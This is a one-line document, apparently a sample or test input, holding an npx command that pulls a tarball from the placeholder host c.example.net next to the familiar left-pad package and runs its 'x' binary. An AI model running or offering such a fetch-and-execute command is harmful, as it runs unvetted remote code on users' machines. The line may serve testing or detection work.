npx -p left-pad -p https://c.example.net/x.tgz x
